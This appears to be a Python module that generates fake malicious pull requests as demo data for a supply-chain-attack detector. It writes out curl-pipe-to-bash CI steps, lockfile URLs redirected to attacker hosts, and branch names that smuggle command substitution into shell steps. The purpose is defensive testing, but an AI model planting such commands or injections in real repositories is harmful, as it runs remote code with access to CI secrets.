"""Anomaly archetypes for the demo data: supply-chain attacks seen in the wild, kept small and plausible."""
from __future__ import annotations

import dataclasses
import hashlib
import random

from prguard.demo import repos as R
from prguard.demo.shapes import Author


@dataclasses.dataclass(frozen=True)
class Anomaly:
    archetype: str
    author: Author
    kind: str  # the ordinary kind it pretends to be (drives title, labels)
    files: list[dict]
    title: str | None = None
    head_ref: str | None = None
    body: str | None = None


def _stranger(rng: random.Random, association: str | None = None) -> Author:
    login = f"{rng.choice(R.WORDS)}-{rng.choice(('bot', 'dev', 'ops', 'sec'))}{rng.randint(10, 99999)}"
    association = association or rng.choice(("FIRST_TIME_CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR", "NONE",
                                             "FIRST_TIMER"))
    user_id = rng.randint(150_000_000, 199_000_000)  # recently created accounts have high ids
    return Author(login, association, rng.choice((-5, 0, 3, 8)), user_id, fork=True)


def _item(path: str, status: str, adds: int, dels: int, patch: str | None) -> dict:
    item = {"sha": hashlib.sha1(f"{path}:{adds}:{dels}".encode()).hexdigest(), "filename": path,
            "status": status, "additions": adds, "deletions": dels, "changes": adds + dels}
    if patch is not None:
        item["patch"] = patch
    return item


def workflow_curl_pipe_shell(repo, rng: random.Random) -> Anomaly:
    """A newcomer 'fixes CI' by piping a script from an unknown host into bash (runs with repo secrets)."""
    host = rng.choice(R.EVIL_HOSTS)
    patch = ("@@ -14,6 +14,8 @@ jobs:\n       - uses: actions/checkout@v4\n"
             f"+      - name: Warm cache\n+        run: curl -sSL https://{host}/setup.sh | bash\n"
             "       - run: make test")
    files = [_item(rng.choice(repo.tree.workflows), "modified", 2, 0, patch)]
    if rng.random() < 0.5:
        files.append(_item(repo.tree.docs[0], "modified", 1, 1, "@@ -1,3 +1,3 @@\n-Build\n+Build status"))
    return Anomaly("workflow_curl_pipe_shell", _stranger(rng), "ci", files,
                   title=rng.choice(("ci: speed up cache restore", "Fix flaky CI", "ci: warm cache")))


def binary_blob_in_tests(repo, rng: random.Random) -> Anomaly:
    """xz-style: opaque 'test fixtures' plus a small build tweak, from someone who has contributed before."""
    stem = rng.choice(("bad", "corrupt", "good-large", "truncated"))
    files = [_item(f"tests/files/{stem}-{n}-{rng.choice(R.WORDS)}.{rng.choice(('xz', 'lzma', 'bin'))}",
                   "added", 0, 0, None) for n in range(rng.randint(1, 3))]
    if rng.random() < 0.6:
        files.append(_item(rng.choice(repo.tree.build), "modified", rng.randint(2, 9), rng.randint(0, 3),
                           "@@ -40,3 +40,5 @@\n+\tsed -i 's/x/y/' $(srcdir)/tests/files/*\n"
                           "+\t$(MAKE) check-fixtures"))
    author = repo.contributors[0] if repo.contributors and rng.random() < 0.5 else _stranger(rng)
    return Anomaly("binary_blob_in_tests", author, "fixture", files,
                   title=rng.choice(("Add test files for corrupted archives", "tests: add fixtures")))


def lockfile_only_change(repo, rng: random.Random) -> Anomaly:
    """Lockfile rewritten (e.g. 'resolved' URLs to another registry) while the manifest stays the same."""
    _, lock = rng.choice(repo.tree.deps)
    adds = rng.randint(4, 300)
    patch = ('@@ -812,7 +812,7 @@\n'
             '-      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",\n'
             f'+      "resolved": "https://{rng.choice(R.EVIL_HOSTS)}/left-pad-1.3.0.tgz",')
    return Anomaly("lockfile_only_change", _stranger(rng), "deps",
                   [_item(lock, "modified", adds, adds - rng.randint(0, min(adds, 5)), patch)],
                   title=rng.choice(("chore: update lockfile", "Fix lockfile", "chore(deps): refresh lock")))


def mass_deletion(repo, rng: random.Random) -> Anomaly:
    """Hundreds of files removed by someone without a track record."""
    pool = list(repo.tree.code + repo.tree.tests + repo.tree.docs)
    count = rng.randint(120, 900)
    files = [_item(pool[i % len(pool)] if i < len(pool) else f"{pool[i % len(pool)]}.{i}", "removed", 0,
                   rng.randint(5, 400), "@@ -1,3 +0,0 @@\n-removed") for i in range(count)]
    return Anomaly("mass_deletion", _stranger(rng), "cleanup", files, body="" if rng.random() < 0.7 else None,
                   title=rng.choice(("Cleanup", "Remove unused files", "update")))


def branch_command_substitution(repo, rng: random.Random) -> Anomaly:
    """A branch name (or title) built to run in any workflow that interpolates it into a shell step."""
    host = rng.choice(R.EVIL_HOSTS)
    ref = rng.choice((f"fix/$(curl${{IFS}}-sSfL${{IFS}}{host}/p|sh)",
                      f"docs/`wget${{IFS}}-qO-${{IFS}}{host}|bash`",
                      f'update";curl${{IFS}}{host}/x|sh;"'))
    title = f"Fix typo $(curl -s {host}/t | sh)" if rng.random() < 0.3 else "Fix typo in README"
    path = repo.tree.docs[0]
    return Anomaly("branch_command_substitution", _stranger(rng), "docs",
                   [_item(path, "modified", 1, 1, "@@ -3,3 +3,3 @@\n-teh\n+the")], title=title, head_ref=ref)


ARCHETYPES = (workflow_curl_pipe_shell, binary_blob_in_tests, lockfile_only_change, mass_deletion,
              branch_command_substitution)
